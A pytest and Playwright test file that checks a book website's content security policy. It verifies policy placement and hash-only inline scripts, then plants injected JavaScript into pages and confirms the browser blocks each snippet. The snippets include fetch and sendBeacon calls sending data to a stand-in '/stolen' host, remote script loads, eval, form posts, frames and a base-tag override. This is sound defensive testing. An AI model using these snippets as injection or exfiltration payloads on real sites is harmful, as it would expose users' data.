"""The content security policy: a page that does what it should breaks none of it, and a planted
request, image, form, script or worker is stopped by the browser."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from _ext.book_site.policy import handlers_of, hash_of, inline_scripts, policy, with_policy
from tests.site.reader import PAGES

WATCH = """
window.broken = [];
addEventListener("securitypolicyviolation", (event) =>
  window.broken.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
CHAPTER = "chapters/03_frequency_and_wavelength.html"
META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


# ---- what stands on the pages


@pytest.mark.parametrize("name", PAGES)
def test_the_policy_precedes_all_that_it_governs(name, book_html):
    page = (Path(book_html) / name).read_text(encoding="utf-8")
    [written] = META.findall(page)
    assert re.search(r"<head[^>]*>\s*<meta http-equiv=\"Content-Security-Policy\"", page)
    texts = [file.read_text(encoding="utf-8") for file in Path(book_html).rglob("*.html")]
    assert written == policy(META.sub("", page), set().union(*map(handlers_of, texts)))
    assert "unsafe-eval'" not in written.replace("'wasm-unsafe-eval'", "")
    assert "*" not in written and "http" not in written
    scripts = re.search(r"script-src ([^;]*)", written)[1]
    assert "unsafe-inline" not in scripts
    assert all(hash_of(script) in scripts for script in inline_scripts(page))


def test_a_policy_allows_inline_scripts_by_hash_only():
    data = '<script type="application/json">{"a": 1}</script>'
    call = ' onclick="go(&quot;1&quot;)"'
    page = f"<html><head>\n<script>run()</script>{data}</head><p{call}></html>"
    handlers = handlers_of(page)
    once = with_policy(page, handlers)
    assert with_policy(once, handlers) == once != page
    [written] = META.findall(once)
    assert hash_of("run()") in written and hash_of('go("1")') in written
    assert hash_of('{"a": 1}') not in written
    assert written.count("sha256") == 2
    assert "script-src-attr 'none'" in policy(page.replace(call, ""), set())


# ---- what the browser does


@pytest.fixture
def page(browser, book_url):
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    yield page
    context.close()


def test_pages_comply_with_their_policy(page, book_url):
    faults = []
    for name in PAGES:
        page.goto(f"{book_url}/{name}", wait_until="load")
        page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
        page.wait_for_load_state("networkidle")
        faults += [f"{name}: {line}" for line in page.evaluate("window.broken")]
    assert not faults, "\n".join(faults)


def test_using_a_chapter_complies_with_its_policy(page, book_url):
    page.goto(f"{book_url}/{CHAPTER}")
    explorer = page.locator(".pe-explorer").first
    explorer.scroll_into_view_if_needed()
    explorer.locator("input[type=range]").first.press("ArrowRight")
    explorer.locator(".pe-sheet").wait_for(state="attached")
    question = page.locator("form.pe-question").first
    question.locator("input").first.check()
    question.locator("button").click()
    question.locator(".pe-reply strong").wait_for()
    page.locator("button.theme-switch-button:visible").first.click()
    page.evaluate("window.print = () => { window.printed = true; }")
    page.evaluate("document.querySelector('[onclick=\"window.print()\"]').click()")
    assert page.evaluate("window.printed") is True
    assert page.evaluate("window.broken") == []
    page.goto(f"{book_url}/search.html?q=wavelength")
    page.locator("ul.search li").first.wait_for()
    assert page.evaluate("window.broken") == []


INJECTED = {
    "a request": ("fetch('URL/stolen').catch(() => {})", "connect-src"),
    "a beacon": ("navigator.sendBeacon('URL/stolen', 'x')", "connect-src"),
    "a socket": ("try { new WebSocket('URL/'.replace('http', 'ws')) } catch {}", "connect-src"),
    "an image": ("new Image().src = 'URL/pixel.png'", "img-src"),
    "a style": ("add('link', { rel: 'stylesheet', href: 'URL/x.css' })", "style-src-elem"),
    "a font": (
        "add('style', { textContent: '@font-face { font-family: x; src: url(URL/x.woff2) }' });"
        "document.body.style.fontFamily = 'x'",
        "font-src",
    ),
    "a script": ("add('script', { src: 'URL/x.js' })", "script-src-elem"),
    "a script in the page": ("add('script', { text: 'window.ran = true' })", "script-src-elem"),
    "code from text": ("try { eval('window.ran = true') } catch {}", "script-src"),
    "a handler": (
        "document.body.setAttribute('onclick', 'window.ran = true'); document.body.click()",
        "script-src-attr",
    ),
    "a form": (
        "const form = add('form', { action: 'URL/form', method: 'post' }); form.submit()",
        "form-action",
    ),
    "a frame": ("add('iframe', { src: 'URL/frame' })", "frame-src"),
    "a frame of the site": ("add('iframe', { src: '/index.html' })", "frame-src"),
    "an object of the site": ("add('object', { data: '/index.html' })", "object-src"),
    "a film of the site": ("add('video', { src: '/film.webm' })", "media-src"),
    "a fetch in advance": ("add('link', { rel: 'prefetch', href: 'URL/early' })", "default-src"),
    "another base": ("add('base', { href: 'URL/' })", "base-uri"),
    "a worker of a text": (
        "try { new Worker(window.URL.createObjectURL(new Blob(['postMessage(1)']))) } catch {}",
        "worker-src",
    ),
}


def eventually(page, holds) -> bool:
    """Return whether something holds within 20 s; playwright's own waiting breaks the policy."""
    for _ in range(200):
        if holds():
            return True
        page.wait_for_timeout(100)
    return False


def plant(page, address: str, script: str) -> None:
    """Run a script as a page's own would run, after this call."""
    script = re.sub(r"(?<=['(])URL/", f"{address}/", script)
    page.evaluate(
        "() => { const add = (name, parts) => document.body.appendChild("
        f"Object.assign(document.createElement(name), parts)); setTimeout(() => {{ {script} }}); }}"
    )


def test_injected_content_is_blocked(page, book_url, other_host):
    address, asked = other_host
    faults = []
    for what, (script, directive) in INJECTED.items():
        page.goto(f"{book_url}/pages/glossary.html")
        plant(page, address, script)
        if not eventually(page, lambda: page.evaluate("window.broken.length")):
            faults.append(f"{what} broke no policy")
            continue
        broken = page.evaluate("window.broken")
        if not any(line.split()[0] == directive for line in broken):
            faults.append(f"{what}: {broken}")
        if page.evaluate("window.ran") or page.url != f"{book_url}/pages/glossary.html":
            faults.append(f"{what} ran")
    assert not faults, "\n".join(faults)
    assert asked == []


def test_injected_content_arrives_without_the_policy(page, other_host):
    """The other host does take what comes: else the test above would show nothing."""
    address, asked = other_host
    page.goto(address.replace("127.0.0.1", "localhost"))
    del asked[:]
    planted = {"a request": "/stolen", "an image": "/pixel.png", "a script": "/x.js"}
    for what in planted:
        plant(page, address, INJECTED[what][0])
    assert eventually(page, lambda: set(planted.values()) <= set(asked)), asked
